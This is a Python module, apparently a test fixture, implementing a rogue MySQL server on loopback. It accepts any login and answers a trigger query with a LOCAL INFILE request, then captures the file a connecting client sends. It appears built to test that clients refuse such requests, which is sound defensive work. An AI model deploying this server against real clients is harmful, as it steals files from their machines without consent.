"""A rogue MySQL server on loopback: just enough protocol to let a client in and ask it for a file.

It greets with a v10 handshake, accepts any login, answers every query with OK, and
answers a query containing `trigger` with a LOCAL INFILE request for `wanted_file`; it
then records what the client sends back as the file's contents.
"""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import BinaryIO

from pymysql.constants import CLIENT, COMMAND

CAPABILITIES = (
    CLIENT.LONG_PASSWORD
    | CLIENT.LONG_FLAG
    | CLIENT.CONNECT_WITH_DB
    | CLIENT.LOCAL_FILES
    | CLIENT.PROTOCOL_41
    | CLIENT.TRANSACTIONS
    | CLIENT.SECURE_CONNECTION
    | CLIENT.MULTI_RESULTS
    | CLIENT.PLUGIN_AUTH
)
UTF8MB4_GENERAL_CI = 45
SERVER_STATUS_AUTOCOMMIT = 0x0002


def _packet(sequence: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([sequence]) + payload


def _ok(sequence: int) -> bytes:
    return _packet(sequence, b"\x00\x00\x00" + struct.pack("<HH", SERVER_STATUS_AUTOCOMMIT, 0))


def handshake(capabilities: int = CAPABILITIES) -> bytes:
    """The server's greeting, offering `capabilities` (add CLIENT.SSL to offer TLS)."""
    salt = b"abcdefgh" + b"ijklmnopqrst"
    payload = (
        b"\x0a5.5.5-10.11.6-MariaDB-fake\x00"
        + struct.pack("<I", 7)
        + salt[:8]
        + b"\x00"
        + struct.pack("<HBHHB", capabilities & 0xFFFF, UTF8MB4_GENERAL_CI, SERVER_STATUS_AUTOCOMMIT, capabilities >> 16, 21)
        + b"\x00" * 10
        + salt[8:]
        + b"\x00mysql_native_password\x00"
    )
    return _packet(0, payload)


class RogueServer:
    """Serves one client at a time; `received_file` holds what a client sent for the requested file."""

    def __init__(self, *, trigger: bytes, wanted_file: bytes) -> None:
        self._trigger = trigger
        self._wanted_file = wanted_file
        self.received_file = b""
        self.asked = threading.Event()
        self.hung_up = threading.Event()  # the client's connection has ended
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return  # the listener was closed
            with client, client.makefile("rb") as reader:
                self._converse(reader, client)
            self.hung_up.set()

    @staticmethod
    def _read(reader: BinaryIO) -> tuple[int, bytes] | None:
        """One packet: (sequence id, payload), or None when the client has hung up."""
        header = reader.read(4)
        if len(header) < 4:
            return None
        return header[3], reader.read(int.from_bytes(header[:3], "little"))

    def _converse(self, reader: BinaryIO, client: socket.socket) -> None:
        client.sendall(handshake())
        if self._read(reader) is None:  # the login: any will do
            return
        client.sendall(_ok(2))
        while (packet := self._read(reader)) is not None:
            _, payload = packet
            if payload[:1] == bytes([COMMAND.COM_QUIT]):
                return
            if payload[:1] == bytes([COMMAND.COM_QUERY]) and self._trigger in payload:
                client.sendall(_packet(1, b"\xfb" + self._wanted_file))
                self.asked.set()
                while (data := self._read(reader)) is not None and data[1]:
                    self.received_file += data[1]
                if data is None:
                    return  # the client hung up instead of sending the file
                client.sendall(_ok(data[0] + 1))
                continue
            client.sendall(_ok(1))


@contextmanager
def rogue_server(*, trigger: bytes, wanted_file: bytes) -> Iterator[RogueServer]:
    """A RogueServer for the block."""
    server = RogueServer(trigger=trigger, wanted_file=wanted_file)
    try:
        yield server
    finally:
        server.close()
